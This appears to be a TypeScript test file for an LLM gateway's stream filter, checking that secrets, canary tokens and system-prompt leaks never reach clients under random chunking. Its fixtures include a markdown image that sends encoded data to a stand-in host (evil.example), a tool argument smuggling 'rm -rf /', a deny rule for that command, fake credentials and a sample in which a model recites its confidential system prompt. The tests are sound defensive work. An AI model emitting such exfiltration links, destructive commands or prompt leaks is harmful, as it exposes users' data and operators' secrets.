/**
 * The stream filter's promise, tested over random chunkings (1 character per chunk up to the whole text):
 * no blocked or redacted content ever reaches the client, the stream ends with `content_filter` or with the
 * redacted text, clean text comes out byte for byte with its finish_reason, and non-text fields never
 * overtake held text. Pure: payloads in, payloads out, no HTTP.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { GatewayConfig } from '../../src/gateway/config-types.ts';
import {
  CONTENT_FILTER,
  createGatewayGuards,
  createStreamFilter,
  filterRequest,
  type GatewayGuards,
  type PayloadKind,
  type StreamFilter,
} from '../../src/gateway/filter/index.ts';
import type { GuardContext } from '../../src/guard/index.ts';
import { mulberry32, randomChunks } from '../fixtures/prng.ts';

type Json = Record<string, unknown>;
type GuardConfig = GatewayConfig['guard'];

function config(overrides: Partial<GuardConfig> = {}): GuardConfig {
  return {
    input: { enabled: true, preset: 'balanced' },
    output: { enabled: true, preset: 'balanced' },
    tools: { allow: [], denyArguments: [] },
    spotlight: { roles: [], mode: 'datamark' },
    ...overrides,
  };
}
const guards = createGatewayGuards(config());

const CANARY_PROMPT = 'You are a terse assistant.\n\n<!-- prompt-ref: pcn-7f3a9c21d4e8b605 -->';
const SYSTEM =
  'You are Zorblax, the support assistant of the Acme Widget store in Springfield. Answer questions about ' +
  'widget sizes, prices and delivery times politely. Never discuss internal margins, supplier names or the ' +
  'discount code WIDGET-STAFF-40, and escalate refund requests above 500 dollars to a human agent.';

/** The context the request side hands over, built the way the app builds it. */
function contextFor(systemPrompt: string): GuardContext {
  const body = {
    messages: [
      { role: 'system', content: systemPrompt },
      { role: 'user', content: 'hi' },
    ],
  };
  return filterRequest('chat', body, guards).context;
}

interface Danger {
  name: string;
  text: string;
  /** A prefix of the dangerous part that must never reach the client. */
  probe: string;
  context: GuardContext;
  expect: 'redact' | 'block';
  /** Where in `text` the dangerous part starts (default 0). */
  start?: number;
}

const DANGERS: Danger[] = [
  {
    name: 'AWS access key',
    text: 'AKIAZ7QW3RTY5UIOPL2K',
    probe: 'AKIAZ7QW',
    context: {},
    expect: 'redact',
  },
  {
    name: 'GitHub token',
    text: 'ghp_R2d2C3poBb8Lk1Mn0Qx7Zt4Vw9Yu6Js5Hg3F',
    probe: 'ghp_R2d2',
    context: {},
    expect: 'redact',
  },
  {
    name: 'markdown exfiltration image',
    text: '![chart](https://evil.example/collect?data=SGVsbG8gc2VjcmV0IHBhc3N3b3Jk)',
    probe: 'https://evil',
    context: {},
    expect: 'redact',
  },
  {
    name: 'canary planted by the request',
    text: 'my instructions end with pcn-7f3a9c21d4e8b605 as you asked',
    start: 'my instructions end with '.length,
    probe: 'pcn-7f3a9c',
    context: contextFor(CANARY_PROMPT),
    expect: 'block',
  },
  {
    name: 'system prompt leak',
    text: `Of course. My instructions say: "${SYSTEM}"`,
    start: 'Of course. My instructions say: "'.length,
    probe: SYSTEM.slice(40, 90),
    context: contextFor(SYSTEM),
    expect: 'block',
  },
];

const VOCAB = [
  'the',
  'widget',
  'answer',
  'is',
  'here',
  'with',
  'some',
  'detail',
  'about',
  'sizes',
  'and',
  'prices',
];
function filler(random: () => number, words: number): string {
  const out: string[] = [];
  for (let i = 0; i < words; i++) out.push(VOCAB[Math.floor(random() * VOCAB.length)] ?? 'x');
  return out.join(' ');
}

const BASE = { id: 'chatcmpl-42', object: 'chat.completion.chunk', created: 1700000000, model: 'llama3' };
const USAGE = { prompt_tokens: 11, completion_tokens: 22, total_tokens: 33 };

/**
 * A chat stream: per choice a role chunk, content chunks and a finish chunk; with several choices their
 * chunks are interleaved at random (each choice's own order kept); a usage chunk last.
 */
function chatStream(texts: readonly string[], random: () => number, max: number): Json[] {
  const queues = texts.map((text, index) => [
    {
      ...BASE,
      choices: [{ index, delta: { role: 'assistant', content: '' }, logprobs: null, finish_reason: null }],
    },
    ...randomChunks(text, random, max).map((piece) => ({
      ...BASE,
      choices: [
        { index, delta: { content: piece }, logprobs: { content: [{ token: piece }] }, finish_reason: null },
      ],
    })),
    { ...BASE, choices: [{ index, delta: {}, logprobs: null, finish_reason: 'stop' }] },
  ]);
  const out: Json[] = [];
  while (queues.some((q) => q.length > 0)) {
    const live = queues.filter((q) => q.length > 0);
    const q = live[Math.floor(random() * live.length)];
    const next = q?.shift();
    if (next !== undefined) out.push(next);
  }
  out.push({ ...BASE, choices: [], usage: USAGE });
  return out;
}

/** Pushes payloads as the app does (stopping at a block) and ends the stream. */
function run(filter: StreamFilter, payloads: readonly Json[]): { out: Json[]; blocked: boolean } {
  const out: Json[] = [];
  for (const p of payloads) {
    const step = filter.push(p);
    out.push(...step.emit);
    if (step.blocked) {
      assert.deepEqual(filter.push(p), { emit: [], blocked: true }, 'a blocked filter emits nothing more');
      assert.deepEqual(filter.end(), { emit: [], blocked: true });
      return { out, blocked: true };
    }
  }
  const last = filter.end();
  out.push(...last.emit);
  return { out, blocked: last.blocked };
}

interface ChoiceView {
  content: string;
  finish: string[];
  roleFirst: boolean;
}

/** What a client reassembles from chat chunks, checking each is well-formed and nothing follows a finish. */
function view(out: readonly Json[], n: number): { choices: ChoiceView[]; usageLast: boolean } {
  const choices: ChoiceView[] = Array.from({ length: n }, () => ({
    content: '',
    finish: [],
    roleFirst: false,
  }));
  let sawUsage = false;
  out.forEach((chunk, k) => {
    assert.equal(chunk.id, BASE.id);
    assert.equal(chunk.object, BASE.object);
    assert.equal(chunk.model, BASE.model);
    assert.equal(chunk.created, BASE.created);
    assert.ok(!sawUsage, 'nothing may follow the usage chunk');
    const list = chunk.choices as Json[];
    if (list.length === 0) {
      assert.deepEqual(chunk.usage, USAGE);
      sawUsage = true;
      return;
    }
    for (const c of list) {
      const v = choices[c.index as number];
      assert.ok(v !== undefined);
      assert.equal(v.finish.length, 0, `chunk ${k}: choice ${c.index} got more after its finish_reason`);
      assert.equal(c.logprobs, null, 'logprobs would spell out held tokens');
      const delta = c.delta as Json;
      if (delta.role !== undefined && v.content === '') v.roleFirst = true;
      if (typeof delta.content === 'string') v.content += delta.content;
      if (c.finish_reason !== null) v.finish.push(c.finish_reason as string);
    }
  });
  return { choices, usageLast: sawUsage };
}

const MAXES = [1, 2, 3, 7, 20, 64, 500, 100_000];

test('clean chat completions come out byte for byte, with role first, finish_reason and usage last', () => {
  const random = mulberry32(1);
  for (const max of MAXES) {
    for (let round = 0; round < 3; round++) {
      const text = filler(random, 1 + Math.floor(random() * 700));
      const filter = createStreamFilter('chat', guards, {});
      const { out, blocked } = run(filter, chatStream([text], random, max));
      assert.equal(blocked, false);
      const { choices, usageLast } = view(out, 1);
      assert.equal(choices[0]?.content, text, `max ${max}`);
      assert.deepEqual(choices[0]?.finish, ['stop']);
      assert.ok(choices[0]?.roleFirst);
      assert.ok(usageLast, 'the usage chunk is forwarded, after the finish');
      assert.equal(filter.action, 'allow');
      assert.equal(filter.completionText, text);
      assert.deepEqual(filter.usage, { promptTokens: 11, completionTokens: 22 });
    }
  }
});

test('dangerous completions never reach the client, whatever the chunking', () => {
  const random = mulberry32(2026);
  for (const danger of DANGERS) {
    for (const max of MAXES) {
      for (let round = 0; round < 3; round++) {
        const before = filler(random, Math.floor(random() * 300));
        const after = filler(random, Math.floor(random() * 300));
        const text = `${before} ${danger.text} ${after}`;
        const filter = createStreamFilter('chat', guards, danger.context);
        const { out, blocked } = run(filter, chatStream([text], random, max));
        const { choices } = view(out, 1);
        const sent = choices[0]?.content ?? '';
        const label = `${danger.name}, max ${max}, round ${round}`;
        assert.ok(!sent.includes(danger.probe), `${label}: leaked ${JSON.stringify(sent.slice(-80))}`);
        assert.ok(!JSON.stringify(out).includes(danger.probe), `${label}: leaked outside the content`);
        if (danger.expect === 'block') {
          assert.equal(blocked, true, label);
          assert.deepEqual(choices[0]?.finish, [CONTENT_FILTER], label);
          assert.ok(text.startsWith(sent), `${label}: what was sent is a prefix of the answer`);
          // Nothing past a few characters into the dangerous part: not even a prefix of it gets out.
          const start = text.indexOf(danger.text) + (danger.start ?? 0);
          assert.ok(sent.length <= start + 4, `${label}: sent ${sent.length - start} characters of it`);
          assert.equal(filter.action, 'block');
        } else {
          assert.equal(blocked, false, label);
          assert.deepEqual(choices[0]?.finish, ['stop'], label);
          const whole = guards.output?.scanOutput(text, danger.context);
          assert.equal(sent, whole?.redacted, `${label}: the stream sends what a whole-text scan redacts`);
          assert.equal(filter.action, 'redact');
          assert.equal(filter.completionText, sent);
        }
        assert.ok(filter.ruleIds.length > 0);
      }
    }
  }
});

test('two choices interleaved: each is filtered alone; a block ends both with content_filter', () => {
  const random = mulberry32(77);
  const [key, canary] = [DANGERS[1], DANGERS[3]] as [Danger, Danger];
  for (const max of [1, 4, 30, 100_000]) {
    const clean = filler(random, 200);
    const secret = `${filler(random, 100)} ${key.text} ${filler(random, 100)}`;
    const f = createStreamFilter('chat', guards, {});
    const r = run(f, chatStream([clean, secret], random, max));
    assert.equal(r.blocked, false);
    const v = view(r.out, 2);
    assert.equal(v.choices[0]?.content, clean, `max ${max}`);
    assert.deepEqual(v.choices[0]?.finish, ['stop']);
    assert.equal(v.choices[1]?.content, guards.output?.scanOutput(secret).redacted);
    assert.deepEqual(v.choices[1]?.finish, ['stop']);
    assert.ok(v.usageLast);
    assert.equal(f.completionText, `${clean}\n${v.choices[1]?.content}`);

    const leaking = `${filler(random, 150)} ${canary.text} ${filler(random, 150)}`;
    const b = createStreamFilter('chat', guards, canary.context);
    const rb = run(b, chatStream([clean, leaking], random, max));
    assert.equal(rb.blocked, true);
    const vb = view(rb.out, 2);
    assert.ok(!JSON.stringify(rb.out).includes(canary.probe));
    assert.equal(vb.choices[1]?.finish.at(-1), CONTENT_FILTER);
    const first = vb.choices[0];
    // The clean choice either finished before the block or is cut with content_filter, never both.
    assert.equal(first?.finish.length, 1);
    assert.ok(clean.startsWith(first?.content ?? 'x'));
    if (first?.finish[0] === 'stop') assert.equal(first.content, clean);
  }
});

test('text completions stream the same way', () => {
  const random = mulberry32(5);
  const base = { id: 'cmpl-7', object: 'text_completion', created: 1, model: 'm' };
  for (const [text, danger] of [
    [filler(random, 300), undefined],
    [`${filler(random, 100)} ${DANGERS[0]?.text} ${filler(random, 100)}`, DANGERS[0]],
  ] as const) {
    for (const max of [1, 9, 100_000]) {
      const payloads: Json[] = randomChunks(text, random, max).map((piece) => ({
        ...base,
        choices: [{ index: 0, text: piece, logprobs: null, finish_reason: null }],
      }));
      payloads.push({ ...base, choices: [{ index: 0, text: '', logprobs: null, finish_reason: 'length' }] });
      const f = createStreamFilter('completion', guards, {});
      const { out } = run(f, payloads);
      let sent = '';
      const finishes: unknown[] = [];
      for (const chunk of out) {
        assert.equal(chunk.object, 'text_completion');
        for (const c of chunk.choices as Json[]) {
          assert.equal(finishes.length, 0);
          sent += c.text as string;
          if (c.finish_reason !== null) finishes.push(c.finish_reason);
        }
      }
      assert.deepEqual(finishes, ['length']);
      if (danger === undefined) assert.equal(sent, text);
      else {
        assert.ok(!sent.includes(danger.probe));
        assert.equal(sent, guards.output?.scanOutput(text).redacted);
      }
    }
  }
});

/** An Ollama NDJSON stream: content objects, then the `done` object with its statistics. */
function ollamaStream(
  kind: 'ollama-chat' | 'ollama-generate',
  text: string,
  random: () => number,
  max: number,
) {
  const base = { model: 'llama3', created_at: '2026-01-01T00:00:00Z' };
  const piece = (s: string): Json =>
    kind === 'ollama-chat'
      ? { ...base, message: { role: 'assistant', content: s }, done: false }
      : { ...base, response: s, done: false };
  const out = randomChunks(text, random, max).map(piece);
  const done = { ...piece(''), done: true, done_reason: 'stop', prompt_eval_count: 7, eval_count: 13 };
  out.push(kind === 'ollama-generate' ? { ...done, context: [1, 2, 3] } : done);
  return out;
}

function ollamaText(kind: PayloadKind, out: readonly Json[]): { text: string; done: Json[] } {
  let text = '';
  const done: Json[] = [];
  for (const o of out) {
    assert.equal(done.length, 0, 'nothing after the done object');
    assert.equal(o.model, 'llama3');
    text += kind === 'ollama-chat' ? ((o.message as Json).content as string) : (o.response as string);
    if (o.done === true) done.push(o);
  }
  return { text, done };
}

test('Ollama chat and generate streams: clean text intact, dangers redacted or cut with done_reason', () => {
  const random = mulberry32(99);
  for (const kind of ['ollama-chat', 'ollama-generate'] as const) {
    for (const max of [1, 3, 50, 100_000]) {
      const clean = filler(random, 250);
      const f = createStreamFilter(kind, guards, {});
      const c = ollamaText(kind, run(f, ollamaStream(kind, clean, random, max)).out);
      assert.equal(c.text, clean);
      assert.equal(c.done[0]?.done_reason, 'stop');
      assert.equal(c.done[0]?.eval_count, 13);
      if (kind === 'ollama-generate') assert.deepEqual(c.done[0]?.context, [1, 2, 3]);
      assert.deepEqual(f.usage, { promptTokens: 7, completionTokens: 13 });

      for (const danger of DANGERS) {
        const text = `${filler(random, 80)} ${danger.text} ${filler(random, 80)}`;
        const d = createStreamFilter(kind, guards, danger.context);
        const r = run(d, ollamaStream(kind, text, random, max));
        const got = ollamaText(kind, r.out);
        assert.ok(!JSON.stringify(r.out).includes(danger.probe), `${kind} ${danger.name} max ${max}`);
        assert.equal(got.done.length, 1);
        if (danger.expect === 'block') {
          assert.equal(r.blocked, true);
          assert.equal(got.done[0]?.done_reason, CONTENT_FILTER);
        } else {
          assert.equal(got.text, guards.output?.scanOutput(text, danger.context).redacted);
          assert.equal(got.done[0]?.done_reason, 'stop');
          assert.equal(got.done[0]?.context, undefined, 'token ids of the unredacted answer are dropped');
        }
      }
    }
  }
});

function toolStream(calls: [string, string][], random: () => number, max: number, content = ''): Json[] {
  const out: Json[] = [
    { ...BASE, choices: [{ index: 0, delta: { role: 'assistant', content: null }, finish_reason: null }] },
  ];
  if (content !== '') {
    for (const piece of randomChunks(content, random, max)) {
      out.push({ ...BASE, choices: [{ index: 0, delta: { content: piece }, finish_reason: null }] });
    }
  }
  calls.forEach(([name, args], i) => {
    out.push({
      ...BASE,
      choices: [
        {
          index: 0,
          delta: {
            tool_calls: [{ index: i, id: `call_${i}`, type: 'function', function: { name, arguments: '' } }],
          },
          finish_reason: null,
        },
      ],
    });
    for (const piece of randomChunks(args, random, max)) {
      out.push({
        ...BASE,
        choices: [
          {
            index: 0,
            delta: { tool_calls: [{ index: i, function: { arguments: piece } }] },
            finish_reason: null,
          },
        ],
      });
    }
  });
  out.push({ ...BASE, choices: [{ index: 0, delta: {}, finish_reason: 'tool_calls' }] });
  return out;
}

const toolGuards = createGatewayGuards(
  config({ tools: { allow: ['get_weather', 'search'], denyArguments: ['rm\\s+-rf'] } }),
);

function sentCalls(out: readonly Json[]): { calls: Json[]; finish: unknown[]; content: string } {
  const calls: Json[] = [];
  const finish: unknown[] = [];
  let content = '';
  for (const chunk of out) {
    for (const c of chunk.choices as Json[]) {
      assert.equal(finish.length, 0, 'nothing after finish_reason');
      const delta = c.delta as Json;
      if (Array.isArray(delta.tool_calls)) calls.push(...(delta.tool_calls as Json[]));
      if (typeof delta.content === 'string') content += delta.content;
      if (c.finish_reason !== null) finish.push(c.finish_reason);
    }
  }
  return { calls, finish, content };
}

test('streamed tool calls are withheld, checked whole and sent as one delta each', () => {
  const random = mulberry32(3);
  const args = JSON.stringify({ city: 'Paris', unit: 'celsius' });
  for (const max of [1, 5, 100_000]) {
    const f = createStreamFilter('chat', toolGuards, {});
    const r = run(
      f,
      toolStream(
        [
          ['get_weather', args],
          ['search', '{"q":"umbrellas"}'],
        ],
        random,
        max,
        'Let me check.',
      ),
    );
    const s = sentCalls(r.out);
    assert.equal(s.content, 'Let me check.');
    assert.deepEqual(s.finish, ['tool_calls']);
    assert.deepEqual(s.calls, [
      { index: 0, id: 'call_0', type: 'function', function: { name: 'get_weather', arguments: args } },
      {
        index: 1,
        id: 'call_1',
        type: 'function',
        function: { name: 'search', arguments: '{"q":"umbrellas"}' },
      },
    ]);
  }
});

test('streamed tool calls: an unlisted function or a denied argument split across deltas is cut', () => {
  const random = mulberry32(4);
  for (const max of [1, 2, 100_000]) {
    const bad = createStreamFilter('chat', toolGuards, {});
    const r = run(
      bad,
      toolStream(
        [
          ['get_weather', '{}'],
          ['run_shell', '{"cmd":"id"}'],
        ],
        random,
        max,
      ),
    );
    assert.equal(r.blocked, true);
    const s = sentCalls(r.out);
    assert.deepEqual(s.calls, [], 'no call of a blocked response is sent, not even the allowed one');
    assert.deepEqual(s.finish, [CONTENT_FILTER]);
    assert.deepEqual(bad.ruleIds, ['gateway/tool-not-allowed']);
    assert.equal(bad.findings[0]?.location.path, 'response.choices[0].delta.tool_calls[1]');

    const denied = createStreamFilter('chat', toolGuards, {});
    const d = run(denied, toolStream([['search', '{"q":"x; rm -rf / now"}']], random, max));
    assert.equal(d.blocked, true);
    assert.ok(!JSON.stringify(d.out).includes('rm -rf'));
    assert.deepEqual(denied.ruleIds, ['gateway/tool-argument-denied']);

    const secret = createStreamFilter('chat', toolGuards, {});
    const token = DANGERS[1]?.text ?? '';
    const sr = run(secret, toolStream([['search', JSON.stringify({ q: token })]], random, max));
    assert.equal(sr.blocked, false);
    assert.ok(!JSON.stringify(sr.out).includes(token.slice(0, 8)));
    const call = sentCalls(sr.out).calls[0]?.function as Json;
    assert.deepEqual(JSON.parse(call.arguments as string), { q: '[REDACTED:github-token]' });
  }
});

test('Ollama tool calls are held until done and checked', () => {
  const base = { model: 'llama3', created_at: 't' };
  const stream = (name: string): Json[] => [
    { ...base, message: { role: 'assistant', content: 'Checking.' }, done: false },
    {
      ...base,
      message: {
        role: 'assistant',
        content: '',
        tool_calls: [{ function: { name, arguments: { city: 'Rome' } } }],
      },
      done: false,
    },
    { ...base, message: { role: 'assistant', content: '' }, done: true, done_reason: 'stop' },
  ];
  const ok = run(createStreamFilter('ollama-chat', toolGuards, {}), stream('get_weather'));
  const calls = ok.out.flatMap((o) => ((o.message as Json).tool_calls as Json[] | undefined) ?? []);
  assert.deepEqual(calls, [{ function: { name: 'get_weather', arguments: { city: 'Rome' } } }]);
  assert.equal(ok.out.at(-1)?.done, true);
  const bad = run(createStreamFilter('ollama-chat', toolGuards, {}), stream('exec'));
  assert.equal(bad.blocked, true);
  assert.ok(!JSON.stringify(bad.out).includes('exec'));
  assert.equal(bad.out.at(-1)?.done_reason, CONTENT_FILTER);
});

test('held text is released at end() when the upstream stops without a finish_reason', () => {
  const f = createStreamFilter('chat', guards, {});
  const first = f.push({ ...BASE, choices: [{ index: 0, delta: { role: 'assistant', content: 'Hello ' } }] });
  const second = f.push({ ...BASE, choices: [{ index: 0, delta: { content: 'world.' } }] });
  const usage = f.push({ ...BASE, choices: [], usage: USAGE });
  assert.deepEqual(usage.emit, [], 'usage waits for held text');
  const last = f.end();
  const all = [...first.emit, ...second.emit, ...last.emit];
  const v = view(all, 1);
  assert.equal(v.choices[0]?.content, 'Hello world.');
  assert.deepEqual(v.choices[0]?.finish, [], 'no finish_reason is made up');
  assert.ok(v.usageLast);
});

test('error events pass at once; payloads that are not chunks do not crash', () => {
  const f = createStreamFilter('chat', guards, {});
  f.push({ ...BASE, choices: [{ index: 0, delta: { content: 'partial' } }] });
  const err = { error: { message: 'upstream overloaded' } };
  assert.deepEqual(f.push(err).emit, [err]);
  for (const odd of [{}, { choices: 'x' }, { choices: [null, 3] }]) assert.equal(f.push(odd).blocked, false);
  assert.throws(() => createStreamFilter('embedding', guards, {}), /do not stream/);
});

test('output guard off: text passes at once, tool calls are still checked', () => {
  const off: GatewayGuards = createGatewayGuards(
    config({ output: { enabled: false }, tools: { allow: ['get_weather'], denyArguments: [] } }),
  );
  const f = createStreamFilter('chat', off, {});
  const step = f.push({ ...BASE, choices: [{ index: 0, delta: { content: DANGERS[1]?.text } }] });
  assert.equal(step.emit.length, 1, 'no hold-back without an output guard');
  assert.equal(f.action, 'skipped');
  const random = mulberry32(8);
  const bad = createStreamFilter('chat', off, {});
  assert.equal(run(bad, toolStream([['exec', '{}']], random, 3)).blocked, true);
  assert.equal(bad.action, 'block');
});

test('choice indices outside 0..127 are dropped, not trusted', () => {
  const f = createStreamFilter('chat', guards, {});
  for (const index of [1e9, -1, 1.5, '0']) {
    const step = f.push({ ...BASE, choices: [{ index, delta: { content: 'x' }, finish_reason: 'stop' }] });
    assert.deepEqual(step.emit, []);
  }
  assert.deepEqual(f.end().emit, []);
});

test('usage on the finishing chunk (llama.cpp) stays on it; Ollama in-between objects carry no statistics', () => {
  const f = createStreamFilter('chat', guards, {});
  const out = [
    ...f.push({ ...BASE, choices: [{ index: 0, delta: { role: 'assistant', content: 'Hi there.' } }] }).emit,
    ...f.push({ ...BASE, choices: [{ index: 0, delta: {}, finish_reason: 'stop' }], usage: USAGE }).emit,
    ...f.end().emit,
  ];
  const last = out.at(-1) ?? {};
  assert.equal((last.choices as Json[])[0]?.finish_reason, 'stop');
  assert.deepEqual(last.usage, USAGE);
  assert.deepEqual(f.usage, { promptTokens: 11, completionTokens: 22 });

  const o = createStreamFilter('ollama-generate', guards, {});
  const objects = [
    ...o.push({ model: 'm', created_at: 't', response: 'Hello', done: false }).emit,
    ...o.push({ model: 'm', created_at: 't', response: '', done: true, done_reason: 'stop', eval_count: 2 })
      .emit,
  ];
  assert.deepEqual(objects.at(-2), { model: 'm', created_at: 't', response: 'Hello', done: false });
  assert.deepEqual(objects.at(-1), {
    model: 'm',
    created_at: 't',
    response: '',
    done: true,
    done_reason: 'stop',
    eval_count: 2,
  });
});
